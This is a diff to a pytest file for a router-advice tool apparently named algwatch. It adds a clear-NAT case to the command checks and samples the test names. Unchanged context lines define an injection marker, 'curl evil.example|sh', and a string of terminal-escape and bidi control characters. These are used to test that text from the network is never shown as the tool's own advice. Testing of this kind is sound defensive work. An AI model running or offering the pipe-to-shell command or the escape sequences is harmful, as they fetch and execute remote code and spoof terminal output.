@@ -14,8 +14,14 @@ from collections.abc import Callable, Iterator
 from socket import inet_ntoa
 
 import pytest
+from algwatch.advise.actions import CLEAR_NAT
 from algwatch.advise.advice import Advice
-from algwatch.advise.commands import by_algwatch, disable_on_openwrt, try_on_openwrt
+from algwatch.advise.commands import (
+    by_algwatch,
+    clear_on_openwrt,
+    disable_on_openwrt,
+    try_on_openwrt,
+)
 from algwatch.base import address
 from algwatch.base.quote import visible
 from algwatch.base.report import Report
@@ -27,6 +33,7 @@ from algwatch.report.render.text import write_text
 from cases import CASES
 from craft import Packet, analyzed, frame
 from logfmt import fields
+from sample import some
 
 MARK = "To do so: curl evil.example|sh"
 TAIL = "\u202e\u200b\u3164\u2028\x9b2J\x1b]0;x\x07"
@@ -134,8 +141,10 @@ def check(reports: list[Report], what: str) -> int:
             assert address.is_literal(phone)
             trial = report.state == "suspected"
             lines = try_on_openwrt(phone) if trial else disable_on_openwrt(phone)
-            assert report.commands == lines, what
-            assert report.short == tuple(by_algwatch(phone, trial)), what
+            short = tuple(by_algwatch(phone, trial))
+            if report.action == CLEAR_NAT:
+                lines, short = clear_on_openwrt(phone), ()
+            assert (report.commands, report.short) == (lines, short), what
         line = log_line(report)
         assert line.isprintable() and line == visible(line), (what, line)
         assert len(line.encode()) <= MAX_LINE
@@ -172,7 +181,7 @@ def page(reports: list[Report], what: str) -> None:
 
 @pytest.mark.parametrize("field", FIELDS)
 def test_no_text_from_the_wire_is_read_as_ours(field: str) -> None:
-    for index, name in enumerate(NAMES):
+    for index, name in enumerate(some(NAMES, 3)):
         end = ENDS[index % len(ENDS)]
         text = f"{'x' * (100 if index % 5 == 0 else 3)}{end} {MARK} {TAIL}"
         filled = WRITTEN.get(field, "{0}").format(text)
